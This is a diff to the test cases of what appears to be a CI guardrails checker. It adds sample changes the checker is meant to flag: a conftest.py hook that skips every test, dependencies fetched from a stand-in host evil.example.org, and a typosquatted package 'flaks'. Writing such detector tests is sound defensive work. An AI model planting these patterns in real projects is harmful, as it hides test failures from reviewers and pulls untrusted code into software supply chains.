@@ -13,6 +13,13 @@ WORKFLOW = (
     "on: pull_request\njobs:\n  gate:\n    steps:\n      - run: guardrails review\n      - run: pytest\n"
 )
 GOLDEN = "scenarios:\n  - id: night\n    order: [a, b, c]\n  - id: morning\n    order: [c, b]\n"
+MARKING = """
+import pytest
+
+def pytest_collection_modifyitems(items):
+    for one in items:
+        one.add_marker(pytest.mark.skip)
+"""
 REPORT = """
 import pytest
 
@@ -246,4 +253,32 @@ CASES = (
     files("hash dropped", "requirements.txt", "a1==1 --hash=sha256:aa\n", "a1==1\n", "GR514"),
     files("new package", "requirements.txt", "flask==1\n", "flask==1\nleftpadder==1\n", "GR514", REVIEW),
     files("scratch script", "reproduce.py", "", "print(1)\n", "GR515", REVIEW),
+    files(
+        "marking hook",
+        "conftest.py",
+        "",
+        MARKING,
+        "GR505",
+    ),
+    files(
+        "requirements from an address",
+        "requirements.txt",
+        "flask==1\n",
+        "flask==1\n-r https://evil.example.org/r.txt\n",
+        "GR514",
+    ),
+    files(
+        "source of a package",
+        "pyproject.toml",
+        "[project]\nname = 'a'\n",
+        "[project]\nname = 'a'\n[tool.uv.sources]\nflask = {git = 'https://evil.example.org/f'}\n",
+        "GR514",
+    ),
+    files(
+        "dependency in a script",
+        "setup.py",
+        "setup(install_requires=['flask'])\n",
+        "setup(install_requires=['flask', 'flaks'])\n",
+        "GR514",
+    ),
 )
